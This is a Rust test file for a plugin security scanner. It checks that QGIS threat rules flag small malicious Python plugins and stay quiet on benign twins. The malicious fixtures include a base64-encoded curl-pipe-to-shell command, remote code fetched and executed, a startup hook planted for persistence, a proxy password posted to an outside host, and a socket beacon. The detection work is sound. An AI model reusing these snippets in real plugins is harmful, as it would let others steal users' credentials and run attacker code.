//! The `qgis` threat rules on small plugins written here: each malicious one hides its pattern
//! the way real malware does (aliases, `getattr`, computed imports, values passed through a
//! name), and each has a benign twin doing the everyday thing that must stay quiet.

use vetted_scan::report::Check;
use vetted_scan::{Report, ScanOptions, scan_path};

fn b64(bytes: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().fold(0u32, |a, &b| (a << 8) | u32::from(b)) << (8 * (3 - chunk.len()));
        for i in 0..=chunk.len() {
            s.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
        for _ in chunk.len()..3 {
            s.push('=');
        }
    }
    s
}

fn scan_source(source: &str) -> Report {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("plugin_code.py"), source).unwrap();
    scan_path(dir.path(), &ScanOptions::default()).unwrap()
}

fn threats(report: &Report) -> Vec<(String, u32)> {
    report
        .findings
        .iter()
        .filter(|f| f.check == Check::Qgis)
        .map(|f| (f.rule.clone(), f.line))
        .collect()
}

/// (rule, line it must fire on, malicious source, benign twin).
fn cases() -> Vec<(&'static str, u32, String, String)> {
    let payload = "import os\nos.system('curl -s http://203.0.113.9/p | sh')\n".repeat(5);
    let icon = {
        let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
        png.extend((0..600u32).map(|i| (i * 7 % 251) as u8));
        b64(&png)
    };
    vec![
        (
            "QGIS001",
            5,
            format!(
                "import base64 as b\nblob = '{}'\n\ndef go():\n    getattr(__builtins__, 'exec')(b.b64decode(blob)) if False else eval(compile(b.b64decode(blob), 'x', 'exec'))\n",
                b64(b"print(1)")
            ),
            format!(
                "import base64\nfrom qgis.PyQt.QtGui import QPixmap\n\ndef icon():\n    data = base64.b64decode('{}')\n    pix = QPixmap()\n    pix.loadFromData(data)\n    return pix\n",
                b64(b"not code")
            ),
        ),
        (
            "QGIS001",
            4,
            "def go(s):\n    code = s[::-1]\n    x = 1\n    exec(code)\n".into(),
            "def go(s):\n    name = s[::-1]\n    return name.upper()\n".into(),
        ),
        (
            "QGIS002",
            5,
            "import importlib\n\ndef update():\n    body = importlib.import_module('urllib.request').urlopen('https://updates.example.org/u.py').read()\n    exec(body)\n".into(),
            "import json\nimport urllib.request\n\ndef caps():\n    body = urllib.request.urlopen('https://maps.example.org/wms?request=GetCapabilities').read()\n    return json.loads(body)\n".into(),
        ),
        (
            "QGIS002",
            4,
            "from urllib.request import urlretrieve as fetch\n\ndef update(folder):\n    fetch('https://updates.example.org/p.py', '/tmp/p.py')\n".into(),
            "from urllib.request import urlretrieve as fetch\n\ndef tile(folder):\n    fetch('https://tiles.example.org/1/2/3.png', '/tmp/cache/3.png')\n".into(),
        ),
        (
            "QGIS003",
            3,
            "def plant(hook):\n    target = 'x'\n    with open('/home/u/.local/share/QGIS/QGIS3/profiles/default/python/startup.py', 'a') as f:\n        f.write(hook)\n".into(),
            "import os\n\ndef save(d, text):\n    with open(os.path.join(d, 'settings.json'), 'w') as f:\n        f.write(text)\n".into(),
        ),
        (
            "QGIS004",
            4,
            "from qgis.PyQt.QtCore import QSettings as S\n\ndef redirect():\n    S().setValue('app/plugin_repositories/mirror/url', 'http://repo.example/plugins.xml')\n".into(),
            "from qgis.PyQt.QtCore import QSettings as S\n\ndef remember(d):\n    S().setValue('myplugin/last_dir', d)\n".into(),
        ),
        (
            "QGIS005",
            5,
            "import requests\nfrom qgis.PyQt.QtCore import QSettings\n\ndef leak():\n    pw = QSettings().value('proxy/proxyPassword')\n    requests.post('https://collect.example.org', data=pw)\n".into(),
            "from qgis.PyQt.QtCore import QSettings\n\ndef theme():\n    return QSettings().value('myplugin/theme')\n".into(),
        ),
        (
            "QGIS006",
            4,
            "import subprocess, sys\n\ndef deps():\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'somepkg'])\n".into(),
            "import subprocess\n\ndef info(path):\n    return subprocess.check_output(['gdalinfo', path])\n".into(),
        ),
        (
            "QGIS007",
            4,
            "import socket\n\ndef beacon():\n    socket.create_connection(('198.51.100.23', 4444))\n".into(),
            "import socket\n\ndef local():\n    socket.create_connection(('127.0.0.1', 8080))\n".into(),
        ),
        (
            "QGIS007",
            4,
            "import urllib.request as u\n\ndef beacon():\n    u.urlopen('http://198.51.100.23/c')\n".into(),
            "import urllib.request as u\n\ndef beacon():\n    u.urlopen('https://services.example.org/c')\n".into(),
        ),
        (
            "QGIS008",
            1,
            format!("PAYLOAD = '{}'\n", b64(payload.as_bytes())),
            format!("ICON = '{icon}'\n"),
        ),
    ]
}

#[test]
fn every_threat_rule_catches_its_malicious_plugin_and_stays_quiet_on_its_twin() {
    for (rule, line, bad, good) in cases() {
        let found = threats(&scan_source(&bad));
        assert!(
            found.contains(&(rule.to_string(), line)),
            "{rule} missing at line {line}; found {found:?} in:\n{bad}"
        );
        let quiet = threats(&scan_source(&good));
        assert!(
            quiet.is_empty(),
            "{rule}'s twin is not quiet: {quiet:?} in:\n{good}"
        );
    }
}

#[test]
fn critical_threats_block_and_warnings_do_not() {
    let cases = cases();
    let (_, _, bad, _) = cases.iter().find(|c| c.0 == "QGIS004").unwrap();
    let report = scan_source(bad);
    assert_eq!(report.verdict, vetted_scan::Verdict::Blocked);
    let (_, _, bad, _) = cases.iter().find(|c| c.0 == "QGIS007").unwrap();
    let report = scan_source(bad);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.rule == "QGIS007" && f.severity == vetted_scan::Severity::Warning)
    );
}

#[test]
fn threat_rules_do_not_run_under_tool_defaults() {
    let cases = cases();
    let (_, _, bad, _) = cases.iter().find(|c| c.0 == "QGIS004").unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("x.py"), bad).unwrap();
    let options = ScanOptions {
        profile: vetted_scan::Profile::ToolDefaults,
        ..Default::default()
    };
    let report = scan_path(dir.path(), &options).unwrap();
    assert!(threats(&report).is_empty());
    assert!(!report.checks.iter().any(|c| c.id == Check::Qgis && c.ran));
}
